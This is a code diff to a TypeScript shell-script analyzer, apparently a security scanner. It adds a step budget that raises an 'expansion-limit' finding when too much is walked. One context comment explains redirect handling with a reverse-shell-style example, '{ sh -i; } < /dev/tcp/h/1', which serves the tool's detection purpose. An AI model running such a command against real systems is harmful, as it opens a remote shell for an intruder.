@@ -51,6 +51,8 @@ export class LineWalker implements Walker {
   readonly findings: RawFinding[] = [];
   readonly callStack: string[] = [];
   functionWalks = 0;
+  /** Steps charged to the walk's budget so far (see `spend`). */
+  private steps = 0;
   readonly writtenFiles = new Map<string, string | null>();
   readonly lineLinks = new LineLinkEvents();
   readonly hashed = new Map<string, string>();
@@ -69,6 +71,16 @@ export class LineWalker implements Walker {
 
   finding(rule: CoreFindingId, detail: string, span: Span, command?: number): void {
     this.findings.push({ rule, detail, span, command });
+  }
+
+  spend(cost: number, span: Span, command?: number): boolean {
+    const limit = this.options.maxWalkSteps;
+    if (this.steps > limit) return false;
+    this.steps += cost;
+    if (this.steps <= limit) return true;
+    // Once: every later refusal is the same spent budget.
+    this.finding('expansion-limit', `the walk's budget of ${limit} steps: commands, sourced files, function calls, eval and sh -c together`, span, command);
+    return false;
   }
 
   expandScope(scope: Scope): ExpandScope {
@@ -111,6 +123,8 @@ export class LineWalker implements Walker {
 
   /** `certain`: the command surely runs in this shell, so its state changes are known. */
   command(cmd: Command, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
+    // Past the budget nothing more is walked: the verdict asks (expansion-limit), whatever is left.
+    if (!this.spend(1, frame.map(cmd.span))) return;
     if (cmd.type === 'SimpleCommand' || cmd.redirects.length === 0) return this.commandBody(cmd, frame, ctx, scope, certain);
     // Redirects on a compound command are set up before its body runs, and the commands inside
     // read and write through them: `{ sh -i; } < /dev/tcp/h/1` is a shell reading a socket. They
